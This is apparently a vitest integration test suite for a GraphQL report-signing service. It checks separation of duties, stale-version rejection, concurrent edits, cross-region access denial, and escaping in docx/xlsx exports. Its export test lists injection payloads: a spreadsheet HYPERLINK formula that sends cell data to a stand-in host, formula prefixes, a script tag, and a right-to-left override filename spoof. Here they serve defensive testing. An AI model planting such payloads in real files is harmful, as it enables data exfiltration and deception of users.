import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { rowsAsOwner } from './as-owner.ts';
import { type House, openHouse, type Person, signedIn } from './house.ts';
import { memberOf } from './zip-member.ts';

/** Ways to sign what one wrote or never read, to write into another's report, and to bring something harmful into its files. */
let house: House;
let writer: Person;
let director: Person;
const OF = { regionCode: '990121', fiscalYear: 2020 };

beforeAll(async () => {
  house = await openHouse();
  // One person each of the section and of the leadership who holds the other's role too.
  for (const [username, role] of [
    ['performance', 'bureauDirector'],
    ['director', 'performanceSection'],
  ])
    await rowsAsOwner(
      house,
      `insert into membership (id, user_id, role, region_id) select gen_random_uuid(), m.user_id, $2, m.region_id from membership m
       join app_user u on u.id = m.user_id where u.username = $1`,
      [username, role],
    );
  writer = await signedIn(house, 'performance');
  director = await signedIn(house, 'director');
}, 240_000);
afterAll(() => house.close());

const words = (text: string) => ({ type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text }] }] });

async function act(person: Person, name: string, input: object = {}) {
  const type = `${name[0]!.toUpperCase()}${name.slice(1)}Input`;
  const { data, errors } = await person.ask(
    `mutation ($input: ${type}!) { ${name}(input: $input) { report { state version } userErrors { code } } }`,
    { input: { ...OF, ...input } },
  );
  expect(errors, JSON.stringify(errors)).toBeUndefined();
  return data[name];
}

const codes = ({ userErrors }: { userErrors: { code: string }[] }) => userErrors.map(({ code }) => code);

const look = async (person: Person, of = OF) => {
  const { data } = await person.ask(
    'query ($regionCode: String!, $fiscalYear: Int!) { summaryReport(regionCode: $regionCode, fiscalYear: $fiscalYear) { state version sections { key version content } viewerCan { sign } } }',
    of,
  );
  return data.summaryReport;
};

const sectionOf = async (person: Person, key: string) =>
  (await look(person)).sections.find((one: { key: string }) => one.key === key);

const save = async (person: Person, sectionKey: string, text: string) =>
  act(person, 'saveSummarySection', {
    sectionKey,
    content: words(text),
    baseVersion: (await sectionOf(person, sectionKey)).version,
  });

const sign = async (person: Person, more: object = {}) =>
  act(person, 'signSummaryReport', {
    baseVersion: (await look(person)).version,
    acceptDifferences: true,
    ...more,
  });

describe('who wrote', () => {
  test('does not sign, although somebody else touched the section after them', async () => {
    expect(codes(await act(writer, 'draftSummaryReport'))).toEqual([]);
    expect(codes(await save(writer, 'suggestions', '一、加强绩效管理'))).toEqual([]);
    expect(codes(await save(director, 'suggestions', '一、加强绩效管理。'))).toEqual([]);
    expect((await look(writer)).viewerCan.sign).toBe(false);
    expect(codes(await sign(writer))).toEqual(['NOT_ALLOWED']);
    expect(codes(await sign(director))).toEqual(['NOT_ALLOWED']);
  });

  test('signs again once their words are gone for the draft', async () => {
    const { version: baseVersion } = await sectionOf(writer, 'suggestions');
    expect(codes(await act(writer, 'restoreDraftedSection', { sectionKey: 'suggestions', baseVersion }))).toEqual([]);
    expect((await look(director)).viewerCan.sign).toBe(true);
  });
});

describe('who signs', () => {
  test('does not sign words that came after they had read the report', async () => {
    const read = await look(director);
    const sectionVersions = read.sections.map(({ version }: { version: number }) => version);
    expect(codes(await save(writer, 'suggestions', '刚刚改过的话'))).toEqual([]);
    expect(codes(await sign(director, { sectionVersions }))).toEqual(['STALE_VERSION']);
    for (const wrong of [[], sectionVersions.slice(1), [...sectionVersions, 1]])
      expect(codes(await sign(director, { sectionVersions: wrong }))).toEqual(['STALE_VERSION']);
    expect((await look(director)).state).toBe('DRAFT');
  });

  test('and who writes at the same moment: one of them is first, and the edition is what was read', async () => {
    const read = await look(director);
    const sectionVersions = read.sections.map(({ version }: { version: number }) => version);
    const before = read.sections.find(({ key }: { key: string }) => key === 'suggestions');
    const [signed, ...saved] = await Promise.all([
      sign(director, { sectionVersions, baseVersion: read.version }),
      ...['甲', '乙', '丙'].map((text) =>
        act(writer, 'saveSummarySection', {
          sectionKey: 'suggestions',
          content: words(text),
          baseVersion: before.version,
        }),
      ),
    ]);
    const writes = saved.flatMap(codes);
    if (codes(signed).length === 0) {
      expect(writes).toEqual(['REPORT_SIGNED', 'REPORT_SIGNED', 'REPORT_SIGNED']);
      expect((await sectionOf(director, 'suggestions')).content).toEqual(before.content);
    } else {
      expect(codes(signed)).toEqual(['STALE_VERSION']);
      expect(writes).toEqual(['STALE_VERSION', 'STALE_VERSION']);
      const now = (await look(director)).sections.map(({ version }: { version: number }) => version);
      expect(codes(await sign(director, { sectionVersions: now }))).toEqual([]);
    }
  });

  test('signs once: the same request again changes nothing', async () => {
    const again = await act(director, 'signSummaryReport', { baseVersion: 1, acceptDifferences: true });
    expect(codes(again)).toEqual(['REPORT_SIGNED']);
    const editions = await rowsAsOwner(house, 'select number from summary_report_edition where fiscal_year = 2020');
    expect(editions).toHaveLength(1);
  });
});

describe('a report that is another region’s', () => {
  test.each([
    ['preparer', OF],
    ['section', OF],
    ['congress', OF],
    ['evaluator', OF],
    ['prefecture', OF],
    ['province', OF],
    ['performance', { regionCode: '990122', fiscalYear: 2020 }],
    ['performance', { regionCode: '990100', fiscalYear: 2020 }],
    ['prefecture', { regionCode: '990000', fiscalYear: 2020 }],
    ['province', { regionCode: '990100', fiscalYear: 2020 }],
  ])('is not written by %s: %j', async (username, of) => {
    const person = await signedIn(house, username);
    const before = await rowsAsOwner(house, 'select * from summary_report_section order by 1, 2, 3');
    for (const [name, input] of Object.entries({
      draftSummaryReport: {},
      saveSummarySection: { sectionKey: 'work', baseVersion: 1, content: words('不该有的话') },
      restoreDraftedSection: { sectionKey: 'work', baseVersion: 1 },
      refreshSummaryReport: { baseVersion: 1 },
      signSummaryReport: { baseVersion: 1, acceptDifferences: true },
      reopenSummaryReport: { baseVersion: 1, reason: '没有理由' },
    })) {
      const { data, errors } = await person.ask(
        `mutation ($input: ${name[0]!.toUpperCase()}${name.slice(1)}Input!) { ${name}(input: $input) { report { state } userErrors { code } } }`,
        { input: { ...of, ...input } },
      );
      const refused = errors?.[0]?.extensions.code ?? data[name].userErrors[0]?.code;
      expect(['NOT_FOUND', 'NOT_ALLOWED'], name).toContain(refused);
    }
    expect(await rowsAsOwner(house, 'select * from summary_report_section order by 1, 2, 3')).toEqual(before);
  });
});

describe('its files', () => {
  const HARMFUL = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    '+1+1',
    '@SUM(1)',
    '-2+3',
    '<w:p/><script>alert(1)</script>&amp;',
    '\u202Efdp.exe',
  ];
  const file = (format: string) =>
    house.app.inject({ url: `/regions/990121/2021/summary.${format}`, headers: { cookie: writer.cookie! } });

  test('hold names, opinions and words as text: no formula, no markup', async () => {
    await rowsAsOwner(
      house,
      `update department set name = $1 where id = (select d.id from department d join region r on r.id = d.county_id where r.code = '990121' order by d.code limit 1) returning id`,
      [HARMFUL[0]],
    );
    await act(writer, 'draftSummaryReport', { fiscalYear: 2021 });
    const { data } = await writer.ask(
      'mutation ($input: SaveSummarySectionInput!) { saveSummarySection(input: $input) { userErrors { code } } }',
      {
        input: {
          ...OF,
          fiscalYear: 2021,
          sectionKey: 'suggestions',
          baseVersion: 1,
          content: { type: 'doc', content: HARMFUL.flatMap((text) => words(text).content) },
        },
      },
    );
    expect(data.saveSummarySection.userErrors).toEqual([]);
    const word = memberOf((await file('docx')).rawPayload, 'word/document.xml');
    expect(word).not.toContain('<script');
    expect(word).toContain('&lt;w:p/&gt;&lt;script&gt;');
    expect(word).not.toMatch(/<w:(instrText|fldSimple|hyperlink)[^>]*>[^<]*HYPERLINK/);
    const sheets = (await file('xlsx')).rawPayload;
    const shared = memberOf(sheets, 'xl/sharedStrings.xml');
    expect(shared).toContain('=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1,&quot;x&quot;)');
    for (let sheet = 1; sheet <= 10; sheet++)
      expect(memberOf(sheets, `xl/worksheets/sheet${sheet}.xml`)).not.toMatch(/<f[ >]/);
  });
});
